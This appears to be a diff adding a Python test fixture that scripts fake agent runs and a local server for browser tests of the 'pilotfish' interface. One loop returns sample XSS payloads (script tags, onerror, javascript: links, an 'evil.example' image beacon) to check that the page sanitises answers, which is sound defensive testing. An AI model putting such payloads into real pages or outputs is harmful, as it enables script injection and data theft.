@@ -1,0 +1,249 @@
+"""A server with runs that behave as told: every state that the page must show, at a test's command."""
+
+import asyncio
+from collections.abc import AsyncGenerator
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from playwright.async_api import BrowserContext, Page
+
+from pilotfish.app import Pilotfish, loop
+from pilotfish.core import events
+from pilotfish.core.messages import Call
+from pilotfish.core.settings import Models, Settings
+from pilotfish.core.settings import Server as Where
+from pilotfish.core.usage import Usage
+from pilotfish.interfaces.server import Server, address, create, listener
+from pilotfish.practice.server import Practice
+from pilotfish.runtime.run import Run
+
+PATIENCE = 20
+ANSWER = """The **Pelican** lifts more: 40 kg against 5 kg. [1] [2]
+
+| arm | lifts | price |
+|---|---|---|
+| Pelican | 40 kg | 1,290 € |
+| Sparrow | 5 kg | 480 € |
+
+```python
+heavier = max(arms, key=lambda arm: arm.lifts)
+```
+"""
+SOURCES = (
+    {"title": "Pelican, the strong arm", "url": "https://arms.example/pelican"},
+    {"title": "Sparrow, the light arm", "url": "https://arms.example/sparrow"},
+)
+PRICED = Usage(input=5200, output=410, cost=0.0031)
+
+
+class Gate:
+    """Lets a run go on when the test says so."""
+
+    def __init__(self) -> None:
+        self.opened = asyncio.Event()
+
+    async def wait(self) -> None:
+        async with asyncio.timeout(PATIENCE):
+            await self.opened.wait()
+
+
+GATES: dict[str, Gate] = {}
+
+
+async def said(run: Run, text: str) -> None:
+    """Say a text word by word, as a model would."""
+    for word in text.split(" "):
+        run.kit.journal.tell(events.Delta(run=run.id, call="c", text=word + " "))
+        await asyncio.sleep(0)
+
+
+async def priced(run: Run, purpose: str, number: int) -> None:
+    """A model call with a price, as a hosted model would have."""
+    call = f"{run.id}:p{number}"
+    asked = events.ModelAsked(run=run.id, call=call, tier="main", model="hosted:big", purpose=purpose, tokens=5200)
+    await run.emit(f"p{number}.asked", asked)
+    reply = events.ModelReplied(
+        run=run.id,
+        call=call,
+        tier="main",
+        model="hosted:big",
+        purpose=purpose,
+        text="A thought.",
+        usage=PRICED,
+        seconds=1.3,
+        context=5200 * number,
+        window=32_768,
+    )
+    run.budget.charge(PRICED)
+    await run.emit(f"p{number}.replied", reply)
+
+
+async def deed(run: Run, number: int, tool: str, text: str, *, ok: bool = True) -> None:
+    """A tool call and its result."""
+    start = events.ToolStarted(run=run.id, call=f"d{number}", tool=tool, args={"id": number, "text": text})
+    await run.emit(f"d{number}.started", start)
+    end = events.ToolFinished(
+        run=run.id,
+        call=f"d{number}",
+        tool=tool,
+        ok=ok,
+        text=text if ok else "",
+        output=f"{text}\nurl: https://arms.example/cart",
+        error="" if ok else "The button is covered by a dialog. Close it first.",
+        seconds=0.4 * number,
+    )
+    await run.emit(f"d{number}.finished", end)
+
+
+@loop("test-story")
+async def story(run: Run) -> None:
+    """A whole run: plan, deeds, a failure, a page, an answer with sources."""
+    await run.note("loop", "Using react: it is a question, and no page is open.", loop="react")
+    steps = ("Find both arms", "Compare what they lift", "Answer with sources")
+    await run.plan([(step, "open") for step in steps])
+    await priced(run, "reason", 1)
+    await deed(run, 1, "web_search", "found 8 results for “robot arm lifting capacity”")
+    await deed(run, 2, "click", "", ok=False)
+    await deed(run, 3, "click", "clicked “Pelican”; the page shows its data sheet")
+    seen = events.PageSeen(run=run.id, url="https://arms.example/pelican", title="Pelican, the strong arm", text="…")
+    await run.emit("seen", seen)
+    await priced(run, "answer", 2)
+    await run.plan([(step, "done") for step in steps])
+    await run.finish(ANSWER, SOURCES)
+
+
+@loop("test-held")
+async def held(run: Run) -> None:
+    """Says half of the answer, waits for the gate named by the task, says the rest."""
+    await deed(run, 1, "click", "clicked “Add to cart”; the cart shows 1")
+    await said(run, "The first half is here and")
+    gate = GATES.setdefault(run.task, Gate())
+
+    async def wait() -> dict[str, bool]:
+        await gate.wait()
+        return {}
+
+    await run.step("held", wait)
+    await said(run, "the second half follows.")
+    await run.finish("The first half is here and the second half follows.")
+
+
+@loop("test-asks")
+async def asks(run: Run) -> None:
+    """Asks a question, then for permission, then tells what it heard."""
+    colour = await run.request_input("Which colour should the lamp have?", ("Red", "Blue"))
+    details = {"what": "Buy the lamp for 48.90 €", "where": "shop.example", "why": "It spends money"}
+    choices = ("Allow once", "Allow for this run", "Refuse")
+    may = await run.request_input("May I place the order?", choices, kind="approval", **details)
+    await run.finish(f"You said {colour} and {may}.")
+
+
+@loop("test-money")
+async def money(run: Run) -> None:
+    """Asks what to do when the budget is used up."""
+    await priced(run, "reason", 1)
+    choices = ("Raise by 10 cents", "Answer with what there is", "Stop")
+    way = await run.request_input("10 of 10 cents are spent. Go on?", choices, kind="budget", spent=10, limit=10)
+    await run.finish(f"You said {way}.")
+
+
+@loop("test-fails")
+async def fails(run: Run) -> None:
+    """Ends badly, with a sentence and a fix."""
+    from pilotfish.core.errors import ModelError
+
+    await priced(run, "reason", 1)
+    raise ModelError("The model did not answer in 120 seconds.", "Try again, or choose another model.")
+
+
+@loop("test-long")
+async def long(run: Run) -> None:
+    """Ten thousand events and more."""
+    batch = [
+        events.ToolFinished(run=run.id, call=f"n{n}", tool="click", ok=True, text=f"clicked thing {n}", seconds=0.1)
+        if kind
+        else events.ToolStarted(run=run.id, call=f"n{n}", tool="click", args={"id": n})
+        for n in range(5000)
+        for kind in (0, 1)
+    ]
+    for at in range(0, len(batch), 500):
+        keyed = [event.model_copy(update={"key": f"n{at + n}"}) for n, event in enumerate(batch[at : at + 500])]
+        await run.kit.journal.append(*keyed)
+    await run.finish("All of it is done.")
+
+
+@loop("test-nasty")
+async def nasty(run: Run) -> None:
+    """An answer that would run script, if it could."""
+    await run.finish(
+        "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
+        '[a](javascript:document.title="owned") ![p](https://evil.example/p.png?stolen) '
+        '<a href="data:text/html,x" style="position:fixed">b</a>'
+    )
+
+
+@loop("test-looks")
+async def looks(run: Run) -> None:
+    """Looks at the page, takes a picture of it, and waits for its gate before going on."""
+    await run.observe()
+    await run.act(Call(id="shot", tool="screenshot"))
+    gate = GATES.setdefault(run.task, Gate())
+
+    async def wait() -> dict[str, bool]:
+        await gate.wait()
+        return {}
+
+    await run.step("held", wait)
+    await run.observe()
+    await run.finish("I looked twice.")
+
+
+@dataclass
+class Stage:
+    """The server, the practice site and the browser that looks at them."""
+
+    fish: Pilotfish
+    url: str
+    site: Practice
+    context: BrowserContext | None = None
+    complaints: list[str] = field(default_factory=list[str])
+
+    @property
+    def way_in(self) -> str:
+        return f"{self.url}/enter?token={self.fish.people.key}"
+
+    async def start(self, name: str, task: str = "Which arm lifts more?", **how: object) -> tuple[str, str]:
+        """A run begun elsewhere: its id and its conversation's."""
+        run = await self.fish.start(task, loop=f"test-{name}", **how)  # pyright: ignore[reportArgumentType]
+        return run.id, run.conversation
+
+    async def ended(self, run: str) -> None:
+        async with asyncio.timeout(PATIENCE):
+            async for _ in self.fish.follow(run):
+                pass
+
+    async def open(self, page: Page, path: str = "/") -> Page:
+        await page.goto(f"{self.url}{path}")
+        await page.wait_for_selector("#main")
+        return page
+
+
+def release(task: str) -> None:
+    """Let a held run go on."""
+    GATES.setdefault(task, Gate()).opened.set()
+
+
+@asynccontextmanager
+async def staged(home: Path) -> AsyncGenerator[Stage]:
+    settings = Settings(home=home, models=Models(main="scripted"), server=Where(port=0))
+    async with Practice() as site, Pilotfish(settings) as fish:
+        with listener("127.0.0.1", 0) as at:
+            server = Server(create(fish))
+            serving = asyncio.create_task(server.serve([at]))
+            await asyncio.wait_for(server.ready.wait(), PATIENCE)
+            try:
+                yield Stage(fish, address(at), site)
+            finally:
+                server.should_exit = True
+                await serving
